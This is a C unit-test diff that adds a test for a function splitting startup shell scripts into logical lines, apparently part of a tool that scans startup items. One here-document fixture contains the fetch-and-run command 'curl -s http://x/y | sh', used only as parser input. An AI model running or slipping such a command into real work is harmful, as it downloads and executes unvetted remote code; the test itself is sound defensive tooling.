@@ -184,6 +184,113 @@ test_env(void **state)
 	}
 }
 
+/* ---- shell scripts ----------------------------------------------------------- */
+
+struct lines {
+	unsigned n;
+	uint32_t line[16];
+	char text[16][512];
+};
+
+static int
+collect_line(uint32_t line, const char *text, size_t len, void *arg)
+{
+	struct lines *x = arg;
+
+	assert_int_equal(strlen(text), len);
+	if (x->n < 16) {
+		x->line[x->n] = line;
+		snprintf(x->text[x->n], 512, "%s", text);
+	}
+	x->n++;
+	return 0;
+}
+
+static struct lines *
+shell(const char *text)
+{
+	struct lines *x = xcalloc(1, sizeof(*x));
+	size_t n = strlen(text);
+	char *copy = xmalloc(n ? n : 1);  /* exact size for ASan */
+
+	memcpy(copy, text, n);
+	startup_shell_lines(copy, n, collect_line, x);
+	free(copy);
+	return x;
+}
+
+static void
+test_shell_lines(void **state)
+{
+	struct lines *x;
+
+	(void)state;
+	/* a continued command: the path is an argument, not a program */
+	x = shell("#!/bin/sh\n\nsystemd-run --unit=t.service \\\n"
+	    "            -p Type=forking \\\r\n"
+	    "            /tmp/test-mainpid.sh\n  # comment\nexit 0");
+	assert_int_equal(x->n, 2);
+	assert_int_equal(x->line[0], 3);
+	assert_string_equal(x->text[0], "systemd-run --unit=t.service  "
+	    "            -p Type=forking              /tmp/test-mainpid.sh");
+	assert_int_equal(x->line[1], 7);
+	assert_string_equal(x->text[1], "exit 0");
+	assert_int_equal(cmd(x->text[0]).cron.flags & CMD_WRITABLE, 0);
+	free(x);
+	/* a here-document written to a file is data; fed to bash, code */
+	x = shell("cat >/tmp/test.sh <<\\EOF\n/tmp/x &\nEOF\n"
+	    "cat > /tmp/h.service <<-'EOL'\n\tExecStart=/var/tmp/y\n\tEOL\n"
+	    "bash <<EOF\ncurl -s http://x/y | sh\nEOF\n"
+	    "echo a <<< here-string\nlast");
+	assert_int_equal(x->n, 6);
+	assert_string_equal(x->text[0], "cat >/tmp/test.sh <<\\EOF");
+	assert_string_equal(x->text[1], "cat > /tmp/h.service <<-'EOL'");
+	assert_string_equal(x->text[2], "bash <<EOF");
+	assert_string_equal(x->text[3], "curl -s http://x/y | sh");
+	assert_int_equal(x->line[3], 8);
+	assert_string_equal(x->text[4], "echo a <<< here-string");
+	assert_string_equal(x->text[5], "last");
+	free(x);
+	/* an unterminated here-document swallows the rest; a continuation
+	 * at the end of the file still ends the line; a NUL ends a line */
+	x = shell("cat >f <<E\n/tmp/a\n/tmp/b");
+	assert_int_equal(x->n, 1);
+	free(x);
+	x = shell("/tmp/a \\");
+	assert_int_equal(x->n, 1);
+	assert_string_equal(x->text[0], "/tmp/a");
+	free(x);
+	{
+		static const char t[] = "/tmp/a\0junk\n/tmp/b\n";
+		struct lines *y = xcalloc(1, sizeof(*y));
+
+		startup_shell_lines(t, sizeof(t) - 1, collect_line, y);
+		assert_int_equal(y->n, 2);
+		assert_string_equal(y->text[0], "/tmp/a");
+		free(y);
+	}
+	/* found by fuzz_startup: a backslash alone starts a line that
+	 * begins with blanks, or is a comment */
+	x = shell(" \\\n-flag\n\\\n# c\nz");
+	assert_int_equal(x->n, 2);
+	assert_string_equal(x->text[0], "-flag");
+	assert_string_equal(x->text[1], "z");
+	free(x);
+	/* a continued line longer than the buffer is cut, not overflowed */
+	{
+		size_t n = STARTUP_ITEM_MAX * 3;
+		char *big = xmalloc(n);
+		struct lines *y = xcalloc(1, sizeof(*y));
+
+		for (size_t i = 0; i < n; i++)
+			big[i] = i % 100 == 98 ? '\\' : i % 100 == 99 ? '\n' : 'a';
+		startup_shell_lines(big, n, collect_line, y);
+		assert_int_equal(y->n, 1);
+		free(y);
+		free(big);
+	}
+}
+
 /* ---- unit files ---------------------------------------------------------- */
 
 #define ITEMS 16
@@ -387,6 +494,7 @@ main(void)
 		cmocka_unit_test(test_cmd_not_deleted),
 		cmocka_unit_test(test_cmd_across_lines),
 		cmocka_unit_test(test_env),
+		cmocka_unit_test(test_shell_lines),
 		cmocka_unit_test(test_unit),
 		cmocka_unit_test(test_udev),
 	};
